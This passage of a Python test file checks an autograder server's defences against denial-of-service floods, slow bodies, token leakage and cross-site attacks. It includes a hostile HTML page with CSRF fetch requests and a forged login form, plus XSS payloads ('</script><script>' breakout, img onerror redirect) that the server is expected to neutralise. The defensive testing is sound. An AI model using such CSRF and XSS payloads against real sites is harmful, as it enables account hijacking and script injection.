            t.join(timeout=30)
        codes = sorted(r.status for r in results)
        assert codes == [202] * 3 + [429] * 9, codes
        for r in results:
            if r.status == 429:
                assert 3500 <= int(r.headers["Retry-After"]) <= 3600
        assert api_upload(server, people["calm"]).status == 202             # the cap is each student's own
        store = server.store()
        assert len(store.attempts("flood")) == 3
        assert [r["state"] for r in store.attempts("flood")].count(QUEUED) == 1   # each replaced the one before
        store.close()
    finally:
        server.stop()


def test_connections_are_bounded_and_the_server_recovers(tmp_path):
    people = issue(tmp_path, "ann")
    server = Attacked(tmp_path, connections=8)
    held = []
    try:
        for _ in range(20):                      # idle connections and never-ending event streams
            held.append(socket.create_connection(("127.0.0.1", server.port), timeout=T))
        answers = [req(server, "GET", "/api/class", token=people["@instructor"]).status for _ in range(3)]
        assert set(answers) == {503}, answers
    finally:
        for s in held:
            s.close()
    try:
        deadline = time.monotonic() + 60                                    # a hang's guard
        while req(server, "GET", "/api/class", token=people["@instructor"]).status != 200:
            assert time.monotonic() < deadline, "the server did not recover from a flood of connections"
            time.sleep(0.1)
    finally:
        server.stop()


def test_a_body_that_never_ends_stalls_nothing_and_times_out(tmp_path):
    people = issue(tmp_path, "slow", "fast")
    # the body's deadline is the requests' own timeout: an order, not a duration, is asserted below (the
    # others answered while the slow body is still unanswered), and no answer may take longer than T anyway
    server = Attacked(tmp_path, body_timeout=T)
    try:
        body, kind = multipart(("file", "k.cu", SRC))
        with socket.create_connection(("127.0.0.1", server.port), timeout=T) as s:
            s.sendall((f"POST /api/submissions HTTP/1.1\r\nHost: {server.host}\r\nAuthorization: Bearer {people['slow']}"
                       f"\r\nContent-Type: {kind}\r\nContent-Length: {len(body) + 1000}\r\n\r\n").encode() + body[:40])
            fast = api_upload(server, people["fast"])                       # meanwhile, others are served
            assert fast.status == 202
            assert req(server, "GET", f"/api/submissions/{fast.json()['id']}", token=people["fast"]).status == 200
            s.setblocking(False)
            with pytest.raises(BlockingIOError):
                s.recv(1)                                                   # the slow one still unanswered: it waited for no one
            s.settimeout(T + 60)                                            # a hang's guard
            answer = s.recv(4096)
            assert answer.startswith(b"HTTP/1.1 408"), answer[:200]
        store = server.store()
        assert store.attempts("slow") == []
        assert [c.student for c in store.claim_wave()] == ["fast"]          # the queue never waited for it
        store.close()
    finally:
        server.stop()


def test_an_event_stream_never_read_is_bounded_and_stalls_no_one(tmp_path):
    people = issue(tmp_path, "ann", "bob")
    store = Store(tmp_path)
    ids = [store.accept(s, "k.cu", SRC, Rules()).id for s in ("ann", "bob")]

    async def flood():
        fanout = Fanout(store)
        deaf, upload_deaf = fanout.watch(None), fanout.watch(ids[0])
        for i in range(WATCHER_QUEUE + 50):
            store.add_event(ids[0], "phase", {"phase": "building", "n": i})
        fanout.tick()
        assert deaf.qsize() == 1 and deaf.get_nowait() == DROPPED          # dropped, its memory freed
        assert upload_deaf.qsize() == 1 and upload_deaf.get_nowait() == DROPPED
        assert not fanout.everyone and not fanout.uploads

    asyncio.run(flood())
    store.close()
    # over HTTP: a watcher that never reads holds no one up
    server = Attacked(tmp_path)
    deaf = []
    try:
        for path, token in ((f"/api/submissions/{ids[0]}/events", people["ann"]), ("/api/class/events", people["@instructor"])):
            s = socket.create_connection(("127.0.0.1", server.port), timeout=T)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
            s.sendall(f"GET {path} HTTP/1.1\r\nHost: {server.host}\r\nAuthorization: Bearer {token}\r\n\r\n".encode())
            deaf.append(s)
        for _ in range(5):                      # each answered within T (the requests' timeout), none left waiting
            assert api_upload(server, people["bob"]).status == 202
            assert req(server, "GET", f"/api/submissions/{ids[1]}", token=people["bob"]).status == 200
    finally:
        for s in deaf:
            s.close()
        server.stop()


# --- the queue's fairness ------------------------------------------------------------------------------

def test_a_flooding_student_delays_another_by_at_most_one_wave(tmp_path):
    store = Store(tmp_path)
    for i in range(50):
        store.accept("flood", "k.cu", SRC + f"//{i}".encode(), Rules(), now=1000.0 + i)
    first = store.claim_wave(now=1100.0)
    assert [c.student for c in first] == ["flood"]                 # one wave: the flood's newest only
    for i in range(50):                                            # it keeps flooding while graded
        store.accept("flood", "k.cu", SRC + f"//again{i}".encode(), Rules(), now=1200.0 + i)
    calm = store.accept("calm", "k.cu", SRC, Rules(), now=1300.0)
    assert calm.place == 1                                          # never served: first in line
    store.finish(first[0].id, stored_grade())
    wave = store.claim_wave(now=1400.0)
    assert [c.student for c in wave][0] == "calm" and len(wave) == 2    # calm first, the flood's one beside it
    queued = [r for r in store.attempts("flood") if r["state"] == QUEUED]
    assert queued == []                                             # a flood leaves one upload at a time in the queue
    assert sum(1 for r in store.attempts("flood") if r["state"] == REPLACED) == 98
    store.close()


def test_an_upload_cut_short_by_a_restart_or_a_retry_is_graded_before_the_newer_one(tmp_path):
    """An acknowledged upload whose grade began is graded, whatever came after it: a restart (or a
    machine fault's retry) queues it again ahead of the same student's newer upload, which a later
    upload may still replace (its grade never began); the student never has more than one queued
    upload that has not begun."""
    store = Store(tmp_path)
    old = store.accept("ann", "old.cu", SRC, Rules(), now=1.0)
    (claimed,) = store.claim_wave(now=2.0)
    newer = store.accept("ann", "new.cu", SRC + b"//2", Rules(), now=3.0)       # while the old one grades
    assert claimed.id == old.id and newer.replaced == ()
    again = Store(tmp_path)                                          # the worker died; the next one starts
    assert again.requeue_stale() == [old.id]
    assert [again.upload(u)["state"] for u in (old.id, newer.id)] == [QUEUED, QUEUED]
    assert again.place(old.id) < again.place(newer.id)
    assert [c.id for c in again.claim_wave(now=4.0)] == [old.id]    # the old one first: one in flight
    # a machine fault's retry: the same; a third upload replaces the newer (never begun), not the old
    assert again.retry(old.id, "the machine failed the grade")
    third = again.accept("ann", "third.cu", SRC + b"//3", Rules(), now=5.0)
    assert third.replaced == (newer.id,) and again.upload(old.id)["state"] == QUEUED
    (retried,) = again.claim_wave(now=6.0)
    assert retried.id == old.id and retried.tries == 2
    assert again.finish(old.id, stored_grade(status="graded"))
    assert [c.id for c in again.claim_wave(now=7.0)] == [third.id]
    kinds = [(e["kind"], json.loads(e["data"]).get("state")) for e in again.events(upload=old.id)]
    assert kinds.count(("done", "graded")) + kinds.count(("done", DONE)) == 1 and ("done", REPLACED) not in kinds
    again.close()
    store.close()


def test_the_deadline_keeps_late_uploads_marked_or_refuses_them_over_http(tmp_path):
    keep, refuse = tmp_path / "keep", tmp_path / "refuse"
    keep.mkdir(), refuse.mkdir()
    past = time.time() - 60
    k, r = issue(keep, "ann"), issue(refuse, "ann")
    servers = [InProcess(keep, deadline=past, late="keep"), InProcess(refuse, deadline=past, late="refuse")]
    try:
        lying = {"Date": "Mon, 01 Jan 2001 00:00:00 GMT"}          # the client's clock is not the server's
        body, kind = multipart(("file", "k.cu", SRC), ("received", None, b"0"), ("late", None, b"0"))
        got = req(servers[0], "POST", "/api/submissions", token=k["ann"], body=body, headers={"Content-Type": kind, **lying})
        assert got.status == 202 and got.json()["late"] is True
        got = req(servers[1], "POST", "/api/submissions", token=r["ann"], body=body, headers={"Content-Type": kind, **lying})
        assert got.status == 403 and "deadline" in got.json()["error"]
        store = Store(refuse)
        assert store.attempts("ann") == []
        store.close()
    finally:
        for s in servers:
            s.stop()


# --- tokens ----------------------------------------------------------------------------------------

def test_no_token_in_the_servers_log_or_in_any_table(tmp_path):
    people = issue(tmp_path, "ann", "bob")
    server = Attacked(tmp_path)
    try:
        aid = api_upload(server, people["ann"]).json()["id"]
        req(server, "GET", f"/api/submissions/{aid}?token={people['ann']}")             # a token pasted in the wrong place
        req(server, "GET", f"/api/submissions/{people['bob']}", token=people["ann"])     # ... or as an id
        req(server, "GET", f"/students/{people['@instructor']}", token=people["@instructor"])
        req(server, "POST", "/login", body=f"token={people['bob']}".encode(),
            headers={"Content-Type": "application/x-www-form-urlencoded"})
        req(server, "POST", "/login", body=f"token={people['bob']}x".encode(),
            headers={"Content-Type": "application/x-www-form-urlencoded"})
        req(server, "GET", "/", cookie=f"grader_session={people['ann']}")
        req(server, "GET", f"/api/submissions/{aid}/events", token=people["ann"] + "-wrong")
    finally:
        server.stop()
    log = server.log.read_text()
    assert "GET /api/submissions/" in log                                    # the access log is on
    for token in people.values():
        assert token not in log and token[:20] not in log
    with sqlite3.connect(tmp_path / "grader.sqlite") as db:
        tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        dump = "\n".join(str(row) for t in tables for row in db.execute(f"SELECT * FROM {t}"))  # noqa: S608
        hashes = [r[0] for r in db.execute("SELECT hash FROM tokens")]
    for token in people.values():
        assert token not in dump
    assert all(re.fullmatch(r"[0-9a-f]{64}", h) for h in hashes)
    # a stolen store's hashes are no tokens
    store = Store(tmp_path)
    assert all(store.who(h) is None for h in hashes)
    store.close()


def test_token_and_csrf_comparisons_are_constant_time():
    """Read from the code: a token is looked up by its sha256 (an attacker's timing learns bits of
    a hash of their own guess, nothing of a stored token), and the CSRF token is compared with
    hmac.compare_digest."""
    who = inspect.getsource(Store.who)
    assert "token_hash(token)" in who and "WHERE hash = ?" in who
    assert "hmac.compare_digest" in inspect.getsource(serving.Course.csrf_ok)
    assert "secrets.token_urlsafe(32)" in inspect.getsource(Store.issue)


# --- in a browser: another site on the same machine -----------------------------------------------------

HOSTILE_PAGE = """<!DOCTYPE html><html><body>
<form id="signin" method="post" action="{server}/login"><input name="token" value="{eve}"></form>
<script>
window.tried = 0;
function file() {{ var f = new FormData(); f.append('csrf', 'guessed');
                   f.append('file', new File(['// planted'], 'planted.cu')); return f; }}
function done() {{ window.tried += 1; }}
fetch('{server}/upload', {{method: 'POST', body: file(), credentials: 'include', mode: 'no-cors'}}).then(done, done);
fetch('{server}/api/submissions', {{method: 'POST', body: file(), credentials: 'include', mode: 'no-cors'}}).then(done, done);
fetch('{server}/api/class', {{credentials: 'include', mode: 'no-cors'}}).then(done, done);
</script></body></html>"""


def test_in_chromium_another_site_on_the_same_host_can_neither_sign_in_nor_submit_nor_script_a_report(tmp_path):
    """Another server on the course machine (another port of 127.0.0.1: the same *site* to a
    browser, so SameSite=Strict sends the cookie to it... and from it) opened by a signed-in
    student: its forms and scripts plant nothing, sign the student in as no one else; a report
    quoting `<script>` runs nothing."""
    if CHROMIUM is None:
        pytest.skip("no Chromium here (apt-get install chromium)")
    people = issue(tmp_path, "ann", "eve")
    server = Attacked(tmp_path)
    url = f"http://{server.host}"
    page_html = HOSTILE_PAGE.format(server=url, eve=people["eve"]).encode()
    hits: list[str] = []

    class Hostile(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page_html)

        def log_message(self, *_args):
            pass

    hostile = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    threading.Thread(target=hostile.serve_forever, daemon=True).start()
    browser = Browser(tmp_path / "profile")
    try:
        page = browser.page(url + "/")
        page.sign_in(people["ann"])
        page.until("!!document.querySelector('#upload') && document.readyState === 'complete'")
        # a report that quotes a source with </script> in it
        aid = api_upload(server, people["ann"]).json()["id"]
        store = server.store()
        store.claim_wave()
        store.finish(aid, stored_grade(
            "<pre>// </script><script>location = '/pwned-by-script'</script>"
            "<img src=x onerror=\"location = '/pwned-by-handler'\"></pre>"))
        store.close()
        browser.send("Page.navigate", page.session, url=f"{url}/submissions/{aid}/report")
        time.sleep(1.5)
        # the hostile site, opened in the signed-in student's tab
        browser.send("Page.navigate", page.session, url=f"http://127.0.0.1:{hostile.server_port}/")
        page.until("window.tried === 3", timeout=20)
        page.js("document.getElementById('signin').submit(); true")      # login CSRF: sign ann in as eve
        time.sleep(1.0)
        browser.send("Page.navigate", page.session, url=url + "/")
        heading = page.until("document.readyState === 'complete' && location.pathname === '/' && "
                             "document.querySelector('h1') && document.querySelector('h1').innerText", timeout=20)
        assert heading.endswith(": ann"), heading                      # still ann: the forged sign-in was refused
    finally:
        browser.close()
        hostile.shutdown()
        server.stop()
    log = server.log.read_text()
    assert "pwned" not in log                                           # the report's script and handler never ran
    assert '"POST /login HTTP/1.1" 403' in log
    store = Store(tmp_path)
    assert [r["name"] for r in store.attempts("ann")] == ["k.cu"] and store.attempts("eve") == []   # nothing planted
    store.close()
